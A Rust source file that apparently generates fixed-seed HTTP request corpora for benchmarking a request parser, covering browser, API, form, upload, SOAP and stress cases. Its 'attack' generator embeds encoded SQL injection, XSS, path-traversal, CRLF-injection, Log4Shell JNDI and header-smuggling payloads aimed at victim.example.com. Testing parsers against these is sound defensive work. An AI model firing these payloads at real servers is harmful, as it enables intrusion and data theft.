//! The requests that are measured. Built in code from a fixed seed: every run, on every machine, has the same bytes.

use std::fmt::Write as _;

use tamiz::{Next, Splitter};

/// Requests of one kind.
pub(crate) struct Corpus {
    pub(crate) name: String,
    pub(crate) requests: Vec<Vec<u8>>,
}

impl Corpus {
    pub(crate) fn bytes(&self) -> usize {
        self.requests.iter().map(Vec::len).sum()
    }

    /// The requests of a stream, as `tamiz canon` cuts it.
    pub(crate) fn from_stream(name: &str, stream: &[u8]) -> Corpus {
        let mut requests = Vec::new();
        let mut splitter = Splitter::new();
        let mut at = 0;
        loop {
            match splitter.next(&stream[at..], true) {
                Next::Request { framed, consumed, .. } => {
                    requests.push([framed.head, framed.body].concat());
                    at += consumed;
                }
                Next::Skipped { bytes } => at += bytes,
                Next::More | Next::End => return Corpus { name: name.to_owned(), requests },
            }
        }
    }
}

/// A name on the command line, what it is, and how it is built.
pub(crate) struct Row {
    pub(crate) name: &'static str,
    pub(crate) about: &'static str,
    build: fn() -> Vec<Vec<u8>>,
}

impl Row {
    pub(crate) fn corpus(&self) -> Corpus {
        Corpus { name: self.name.to_owned(), requests: (self.build)() }
    }
}

pub(crate) const ROWS: &[Row] = &[
    Row { name: "browser", about: "GETs of pages, scripts and images with the headers of a browser", build: browser },
    Row { name: "api", about: "API calls with JSON bodies, bearer tokens and tracing headers", build: api },
    Row { name: "form", about: "form logins", build: form },
    Row { name: "upload", about: "multipart forms with a file", build: upload },
    Row { name: "soap", about: "XML envelopes", build: soap },
    Row { name: "attack", about: "injections under layers of percent signs, entities and Unicode", build: attack },
    Row { name: "huge", about: "one request with a query of 1 MB", build: huge },
    Row { name: "deep", about: "JSON of 100,000 nested arrays, and XML of as many nested elements", build: deep },
    Row { name: "long", about: "JSON with a string of 10 MB", build: long },
    Row { name: "parts", about: "a multipart body of 100,000 parts", build: parts },
];

const REQUESTS: usize = 500;

fn many(seed: u64, one: fn(&mut Rng) -> String) -> Vec<Vec<u8>> {
    let mut rng = Rng(seed);
    (0..REQUESTS).map(|_| one(&mut rng).into_bytes()).collect()
}

fn browser() -> Vec<Vec<u8>> {
    many(1, |rng| {
        let page =
            rng.pick(&["/", "/shop/list.html", "/static/js/app.4f2a9c.js", "/img/p%C3%A1gina-1.png", "/api/v2/items"]);
        let query = match rng.below(3) {
            0 => String::new(),
            1 => format!("?page={}&sort=price&q=red%20wine", rng.below(40)),
            _ => format!("?id={}&utm_source=news&utm_campaign=spring+sale&v={}", rng.below(100_000), rng.hex(8)),
        };
        let agent = rng.pick(&[
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:121.0) Gecko/20100101 Firefox/121.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) \
             Version/17.2 Mobile/15E148 Safari/604.1",
        ]);
        format!(
            "GET {page}{query} HTTP/1.1\r\n\
             Host: shop.example.com\r\n\
             User-Agent: {agent}\r\n\
             Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\n\
             Accept-Language: es-AR,es;q=0.8,en-US;q=0.5,en;q=0.3\r\n\
             Accept-Encoding: gzip, deflate, br\r\n\
             Referer: https://shop.example.com/list?page={}\r\n\
             Connection: keep-alive\r\n\
             Cookie: session={}; theme=dark; _ga=GA1.2.{}.{}\r\n\
             Upgrade-Insecure-Requests: 1\r\n\
             Sec-Fetch-Dest: document\r\n\
             Sec-Fetch-Mode: navigate\r\n\
             Sec-Fetch-Site: same-origin\r\n\
             If-None-Match: \"{}\"\r\n\r\n",
            rng.below(40),
            rng.hex(32),
            rng.below(1_000_000_000),
            rng.below(1_000_000_000),
            rng.hex(16),
        )
    })
}

fn api() -> Vec<Vec<u8>> {
    many(2, |rng| {
        let body = format!(
            "{{\"user\":{{\"id\":{},\"name\":\"Mar\u{ed}a\"}},\"items\":\
             [{{\"sku\":\"{}\",\"count\":{}}}],\"note\":\"as agreed\"}}",
            rng.below(100_000),
            rng.hex(12),
            rng.below(9),
        );
        format!(
            "POST /v2/accounts/{}/orders/{}-{}-4{}-a{}-{}?expand=items&limit=50 HTTP/1.1\r\n\
             Host: api.example.com:8443\r\n\
             User-Agent: okhttp/4.12.0\r\n\
             Accept: application/json\r\n\
             Content-Type: application/json; charset=utf-8\r\n\
             Content-Length: {}\r\n\
             Authorization: Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.{}.{}\r\n\
             X-Request-Id: {}\r\n\
             Traceparent: 00-{}-{}-01\r\n\
             X-Forwarded-For: 203.0.113.{}, 198.51.100.7\r\n\r\n{body}",
            rng.below(100_000),
            rng.hex(8),
            rng.hex(4),
            rng.hex(3),
            rng.hex(3),
            rng.hex(12),
            body.len(),
            rng.word(120),
            rng.word(86),
            rng.hex(32),
            rng.hex(32),
            rng.hex(16),
            rng.below(256),
        )
    })
}

fn form() -> Vec<Vec<u8>> {
    many(3, |rng| {
        let body = format!(
            "csrf_token={}&user=user{}%40example.com&password={}%21%26x&remember=on&next=%2Faccount%3Ftab%3D1",
            rng.hex(40),
            rng.below(10_000),
            rng.word(12),
        );
        format!(
            "POST /account/login HTTP/1.1\r\n\
             Host: www.example.com\r\n\
             User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0\r\n\
             Accept: text/html,*/*;q=0.8\r\n\
             Content-Type: application/x-www-form-urlencoded\r\n\
             Content-Length: {}\r\n\
             Origin: https://www.example.com\r\n\
             Cookie: PHPSESSID={}\r\n\r\n{body}",
            body.len(),
            rng.word(26),
        )
    })
}

fn post(media_type: &str, body: &str) -> String {
    let length = body.len();
    format!(
        "POST /v1/import HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\
         Content-Type: {media_type}\r\nContent-Length: {length}\r\n\r\n{body}"
    )
}

fn upload() -> Vec<Vec<u8>> {
    many(6, |rng| {
        let boundary = format!("----WebKitFormBoundary{}", rng.word(16));
        let mut body = String::new();
        for (name, value) in [("title", rng.word(20)), ("csrf_token", rng.hex(40)), ("album", rng.hex(4))] {
            let _ = write!(body, "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
        }
        let _ = write!(
            body,
            "--{boundary}\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"{}.jpg\"\r\n\
             Content-Type: image/jpeg\r\n\r\n{}\r\n--{boundary}--\r\n",
            rng.word(8),
            rng.word(4000),
        );
        post(&format!("multipart/form-data; boundary={boundary}"), &body)
    })
}

fn soap() -> Vec<Vec<u8>> {
    many(7, |rng| {
        let mut items = String::new();
        for _ in 0..1 + rng.below(8) {
            let _ = write!(items, "<item sku=\"{}\"><count>{}</count></item>", rng.hex(12), rng.below(9));
        }
        let body = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
             <soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">\n  <soap:Header>\
             <wsse:Password>{}</wsse:Password></soap:Header>\n  <soap:Body><order>{items}\
             <note>Fish &amp; chips</note></order></soap:Body>\n</soap:Envelope>",
            rng.word(12),
        );
        post("text/xml; charset=utf-8", &body)
    })
}

fn attack() -> Vec<Vec<u8>> {
    const PAYLOADS: &[&str] = &[
        "1%27%20%4f%52%20%271%27%3d%271%27%20--%20",
        "%253Cscript%253Ealert%25281%2529%253C%252Fscript%253E",
        "&lt;img src=x onerror=&#97;&#x6c;ert(1)&gt;",
        "..%c0%af..%c0%afetc%c0%afpasswd",
        "%u0027%u0020union%u0020select%u0020null",
        "\u{ff07}\u{ff1b}drop\u{3000}table",
        "\u{430}dmin\u{202e}gpj.exe",
        "%00%0d%0aSet-Cookie:%20x=1",
        "${jndi:ldap://198.51.100.7/%61}",
        "caf\u{65}\u{301}\u{200b}%e2%80%8b%EF%BC%9Cb%EF%BC%9E",
    ];
    many(4, |rng| {
        let mut target = String::from("/app");
        for _ in 0..rng.below(5) {
            target.push_str(rng.pick(&["/..", "/%2e%2e", "//", "/%252e%252e", "/.;/", "/\u{ff0e}\u{ff0e}", "/%5c.."]));
        }
        target.push_str("/x.php?");
        for n in 0..1 + rng.below(6) {
            let _ = write!(target, "p{n}={}&", rng.pick(PAYLOADS).replace(' ', "+"));
        }
        let (agent, cookie, custom) = (rng.pick(PAYLOADS), rng.pick(PAYLOADS), rng.pick(PAYLOADS));
        // Most parsers refuse the space in front of the colon.
        let coding = rng.pick(&["TE", "TE", "TE", "Transfer-Encoding "]);
        format!(
            "GET {target} HTTP/1.1\r\nHost: victim.example.com\r\nUser-Agent: sqlmap/1.7 {agent}\r\n\
             Cookie: id={cookie}\r\n\
             X-Api-Version: {custom}\r\n{coding}: chunked\r\nAccept:\t*/*\r\n\r\n"
        )
    })
}

fn huge() -> Vec<Vec<u8>> {
    let mut rng = Rng(5);
    let mut request = String::from("GET /search?");
    while request.len() < 1_000_000 {
        let _ = write!(request, "key{}={}%20{}&", rng.below(1000), rng.word(24), rng.hex(8));
    }
    request.push_str("end=1 HTTP/1.1\r\nHost: shop.example.com\r\n\r\n");
    vec![request.into_bytes()]
}

fn deep() -> Vec<Vec<u8>> {
    const DEPTH: usize = 100_000;
    let json = ["[".repeat(DEPTH), "]".repeat(DEPTH)].concat();
    let xml = ["<a>".repeat(DEPTH), "</a>".repeat(DEPTH)].concat();
    vec![post("application/json", &json).into_bytes(), post("text/xml", &xml).into_bytes()]
}

fn long() -> Vec<Vec<u8>> {
    let body = format!("{{\"a\":\"{}\"}}", Rng(8).word(10_000_000));
    vec![post("application/json", &body).into_bytes()]
}

fn parts() -> Vec<Vec<u8>> {
    let mut body = String::new();
    for n in 0..100_000 {
        let _ = write!(body, "--b\r\nContent-Disposition: form-data; name=\"f{n}\"\r\n\r\n{n}\r\n");
    }
    body.push_str("--b--\r\n");
    vec![post("multipart/form-data; boundary=b", &body).into_bytes()]
}

/// SplitMix64: small, and the same everywhere.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let z = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }

    fn drawn_from(&mut self, alphabet: &[u8], len: usize) -> String {
        (0..len).map(|_| char::from(alphabet[self.below(alphabet.len())])).collect()
    }

    fn hex(&mut self, len: usize) -> String {
        self.drawn_from(b"0123456789abcdef", len)
    }

    fn word(&mut self, len: usize) -> String {
        self.drawn_from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", len)
    }
}
